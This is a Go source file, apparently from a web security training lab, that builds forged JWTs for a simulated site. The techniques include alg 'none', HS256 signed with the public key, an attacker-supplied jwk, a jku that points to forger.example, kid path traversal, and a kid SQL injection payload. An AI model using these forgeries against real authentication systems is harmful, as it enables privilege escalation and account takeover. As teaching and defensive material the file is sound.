package forgery

import (
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"path"
	"slices"
	"strings"
	"time"

	"github.com/go-jose/go-jose/v4"
	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"

	"twodoors/web/lab/forgery/careless"
	"twodoors/web/trace"
)

// technique is a way of making a token that nobody signed.
type technique struct {
	kind      string
	label     string       // of its button
	refusedAt []trace.Name // the steps that may refuse it
	forge     func(*original) (token, done string, err error)
}

// The techniques, by what they go for: the content, the key, the context.
func contentTechniques() []technique {
	return []technique{
		{"payload", "Change the role", []trace.Name{trace.SignatureVerify}, changedPayload},
		{"signature-cut", "Cut the signature off", []trace.Name{trace.TokenDecode}, cutSignature},
		{"none", "Say alg none", []trace.Name{trace.AlgorithmCheck}, algorithmNone("none")},
		{"none-spelled", "Spell it nOnE", []trace.Name{trace.AlgorithmCheck}, algorithmNone("nOnE")},
		{"other-algorithm", "Name another algorithm", []trace.Name{trace.AlgorithmCheck}, otherAlgorithm},
		{"doubled", "Write the role twice", []trace.Name{trace.TokenDecode}, doubled},
	}
}

func keyTechniques() []technique {
	return []technique{
		{"public-key", "Sign HS256 with the public key", []trace.Name{trace.AlgorithmCheck, trace.KeySelect}, signedWithPublicKey},
		{"jwk", "Bring a key along (jwk)", []trace.Name{trace.SignatureVerify}, broughtKey},
		{"jku", "Say where to fetch it (jku)", []trace.Name{trace.KeySelect}, fetchedKey},
		{"kid-path", "Name a file (kid)", []trace.Name{trace.KeySelect}, namedFile},
		{"kid-sql", "Put SQL into kid", []trace.Name{trace.KeySelect}, namedRow},
	}
}

func contextTechniques() []technique {
	return []technique{
		{"expired", "Show one that has expired", []trace.Name{trace.ClaimsCheck}, pastItsTime},
		{"audience", "Change the audience (aud)", []trace.Name{trace.SignatureVerify}, otherAudience},
		{"refresh", "Show a refresh token", []trace.Name{trace.TokenDecode}, refreshAsAccess},
	}
}

func techniques() []technique {
	return slices.Concat(contentTechniques(), keyTechniques(), contextTechniques())
}

func changedPayload(o *original) (string, string, error) {
	return signingInput(o.header, o.promoted()) + "." + o.signature, "The role in the payload is changed to admin. Header and signature stay as they were.", nil
}

func cutSignature(o *original) (string, string, error) {
	return signingInput(o.header, o.promoted()) + ".", "The role is changed to admin, and the signature is cut off; its period stays.", nil
}

func algorithmNone(name string) func(*original) (string, string, error) {
	return func(o *original) (string, string, error) {
		return signingInput(o.headerWith("alg", name), o.promoted()) + "." + o.signature,
			"The header says that the algorithm is " + name + ", the payload that the role is admin. What stands as signature is the old one.", nil
	}
}

func otherAlgorithm(o *original) (string, string, error) {
	return signingInput(o.headerWith("alg", "ES384"), o.promoted()) + "." + o.signature,
		"The header says ES384, an algorithm that no key of this site is for, and the payload that the role is admin.", nil
}

func doubled(o *original) (string, string, error) {
	payload := append(o.payload[:len(o.payload):len(o.payload)], careless.Member{Name: "role", Value: jsontext.Value(`"admin"`)})
	return signingInput(o.header, payload) + "." + o.signature, "A second role, admin, stands at the end of the payload. The first is as it was signed.", nil
}

var errNoPublicKey = unprocessable("This token names no public key of the site: this forgery needs RS256, ES256 or EdDSA, which the lab sets up.")

func signedWithPublicKey(o *original) (string, string, error) {
	if o.key.Public == nil {
		return "", "", errNoPublicKey
	}
	text := signingInput(o.headerWith("alg", "HS256"), o.promoted())
	return text + "." + encoded(careless.MAC(careless.PEM(o.key.Public), text)),
		"The header says HS256, and the token is signed by it, with the text of the site's public key for a secret. Everybody has that key.", nil
}

func broughtKey(o *original) (string, string, error) {
	key, err := o.attacker.key(o.key.Algorithm)
	if err != nil {
		return "", "", err
	}
	inside, err := json.Marshal(jose.JSONWebKey{Key: key.private.Public(), Algorithm: key.method.Alg(), Use: "sig"})
	if err != nil {
		return "", "", err
	}
	token, err := key.sign(o.headerWith("jwk", jsontext.Value(inside)), o.promoted())
	return token, "The token is signed with a key of the forger's own, and its public half comes along in the header, as jwk.", err
}

// forgersKeys is an address that nobody asks: names under .example lead nowhere (RFC
// 2606).
const forgersKeys = "https://forger.example/keys.json"

func fetchedKey(o *original) (string, string, error) {
	key, err := o.attacker.key(o.key.Algorithm)
	if err != nil {
		return "", "", err
	}
	o.world.Remote[forgersKeys] = key.private.Public()
	token, err := key.sign(o.headerWith("kid", "forger-1", "jku", forgersKeys), o.promoted())
	return token, "The token is signed with a key of the forger's own. The header says, as jku, that it is to be fetched from " + forgersKeys + ".", err
}

func namedFile(o *original) (string, string, error) {
	key, err := o.attacker.key(o.key.Algorithm)
	if err != nil {
		return "", "", err
	}
	const kid = "../uploads/holiday.png"
	o.world.Files[path.Join(careless.KeyFolder, kid)] = careless.PEM(key.private.Public())
	token, err := key.sign(o.headerWith("kid", kid), o.promoted())
	return token, "The token is signed with a key of the forger's own, and kid is the path of a picture that the forger has uploaded: it holds that key.", err
}

func namedRow(o *original) (string, string, error) {
	key, err := o.attacker.key(o.key.Algorithm)
	if err != nil {
		return "", "", err
	}
	der, err := x509.MarshalPKIXPublicKey(key.private.Public())
	if err != nil {
		return "", "", err
	}
	kid := "x' UNION SELECT '" + base64.StdEncoding.EncodeToString(der) + "' --"
	token, err := key.sign(o.headerWith("kid", kid), o.promoted())
	return token, "The token is signed with a key of the forger's own. In a query, kid would add a row that holds this key.", err
}

// pastItsTime changes nothing: the signature of an expired token is right.
func pastItsTime(o *original) (string, string, error) {
	left := o.expires().Sub(o.world.Now)
	if left > 0 {
		return "", "", unprocessable(fmt.Sprintf("This token is good for another %s: wait until it has expired.", left.Round(time.Second)))
	}
	return o.token, "Nothing is changed. Its signature is right, and its time is over.", nil
}

func (o *original) expires() time.Time {
	var seconds int64
	for _, m := range o.payload {
		if m.Name == "exp" {
			json.Unmarshal(m.Value, &seconds) // what is no number is long ago
		}
	}
	return time.Unix(seconds, 0)
}

func otherAudience(o *original) (string, string, error) {
	return signingInput(o.header, careless.With(o.payload, "aud", o.world.Issuer+":reports")) + "." + o.signature,
		"The audience is changed to another service. Nobody but the issuer can sign that, so the door does not come to look at aud; a token that the issuer did sign for another service would be refused at claims.check.", nil
}

func refreshAsAccess(o *original) (string, string, error) {
	if strings.Contains(o.token, ".") {
		return "", "", unprocessable("This is an access token: send the refresh token that a login with \"refresh_in\": \"body\" answers with.")
	}
	o.world.Issued = append(o.world.Issued, o.token)
	return o.token, "Nothing is changed. It is a refresh token, shown where an access token belongs.", nil
}
